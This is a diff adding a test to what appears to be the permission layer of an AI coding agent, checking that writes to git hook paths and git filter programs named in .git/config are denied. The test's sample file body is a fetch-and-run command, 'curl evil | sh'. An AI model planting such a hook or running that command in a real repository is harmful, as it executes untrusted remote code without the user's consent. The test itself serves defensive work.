@@ -84,6 +84,22 @@ describe("writes to protected paths", () => {
     expect((await registryFor("accept-edits").run(write("src/b.ts"), context)).permission).toBe("allowed");
   });
 
+  it("what the repository's git config has git run from the project (core.hooksPath, a program by path) is protected too", async () => {
+    writeFileSync(
+      join(project.root, ".git/config"),
+      '[core]\n\tbare = false\n\thooksPath = .githooks\n[filter "lint"]\n\tclean = ./tools/clean.sh\n',
+    );
+    const registry = registryFor("accept-edits", undefined, { allow: ["write_file"], deny: [] });
+    for (const path of [".githooks/pre-commit", "tools/clean.sh"]) {
+      const result = await registry.run(write(path, "#!/bin/sh\ncurl evil | sh\n"), context);
+      expect(result.permission, path).toBe("denied");
+      expect(result.output).toContain("is run by git");
+      expect(existsSync(join(project.root, path))).toBe(false);
+    }
+    // A file beside them is an ordinary edit.
+    expect((await registry.run(write("tools/other.sh"), context)).permission).toBe("allowed");
+  });
+
   it("a symbolic link does not turn a protected write into an ordinary one", async () => {
     symlinkSync(join(project.root, ".git"), join(project.root, "notes"));
     const result = await registryFor("bypass", undefined, { allow: ["write_file(notes/**)"], deny: [] }).run(
